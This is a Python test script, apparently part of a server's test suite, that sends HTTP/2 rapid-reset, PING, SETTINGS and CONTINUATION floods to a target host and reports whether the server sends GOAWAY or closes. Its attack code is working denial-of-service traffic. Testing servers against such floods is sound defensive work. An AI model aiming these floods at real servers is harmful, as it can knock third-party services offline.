#!/usr/bin/env python3
"""HTTP/2 abuse probes for Rapid's tests (python3-h2): rapid reset, PING, SETTINGS and
CONTINUATION floods. Usage: h2flood.py HOST PORT tls|h2c MODE COUNT
Prints one JSON line: {"goaway": <error code or null>, "closed": bool, "sent": n}."""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

host, port, transport, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])

raw = socket.create_connection((host, port), timeout=20)
if transport == 'tls':
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(['h2'])
    sock = ctx.wrap_socket(raw, server_hostname='localhost')
    assert sock.selected_alpn_protocol() == 'h2', sock.selected_alpn_protocol()
else:
    sock = raw

conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())

def frame(ftype, flags, stream, payload):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', ftype, flags, stream) + payload

headers = [(':method', 'GET'), (':scheme', 'https'), (':authority', 'localhost'), (':path', '/')]
sent = 0
out = bytearray()
try:
    if mode == 'rapid-reset':
        for i in range(count):
            sid = 1 + 2 * i
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=8)  # CANCEL
            sent += 1
            if i % 50 == 49:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    elif mode == 'ping':
        for i in range(count):
            out += frame(0x6, 0, 0, struct.pack('>Q', i))
            sent += 1
        sock.sendall(bytes(out))
    elif mode == 'settings':
        for i in range(count):
            out += frame(0x4, 0, 0, struct.pack('>HI', 0x4, 65535 + (i % 2)))
            sent += 1
        sock.sendall(bytes(out))
    elif mode == 'continuation':
        enc = hpack.Encoder()
        block = enc.encode(headers)
        sock.sendall(frame(0x1, 0x1, 1, block))  # HEADERS, END_STREAM, no END_HEADERS
        for i in range(count):
            field = b'\x00' + bytes([5]) + b'x-pad' + bytes([100]) + b'a' * 100  # literal, new name
            sock.sendall(frame(0x9, 0, 1, field))
            sent += 1
    else:
        raise SystemExit('unknown mode ' + mode)
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
    pass

goaway = None
closed = False
deadline = time.time() + 20
while time.time() < deadline and goaway is None:
    try:
        data = sock.recv(65536)
    except socket.timeout:
        break
    except (ConnectionResetError, ssl.SSLError, OSError):
        closed = True
        break
    if not data:
        closed = True
        break
    try:
        events = conn.receive_data(data)
    except Exception:
        events = []
    for ev in events:
        if isinstance(ev, h2.events.ConnectionTerminated) and goaway is None:
            goaway = int(ev.error_code)
    try:
        pending = conn.data_to_send()
        if pending:
            sock.sendall(pending)
    except Exception:
        pass
if goaway is not None and not closed:
    try:
        sock.settimeout(5)
        while sock.recv(65536):
            pass
        closed = True
    except Exception:
        closed = True
print(json.dumps({'goaway': goaway, 'closed': closed, 'sent': sent}))
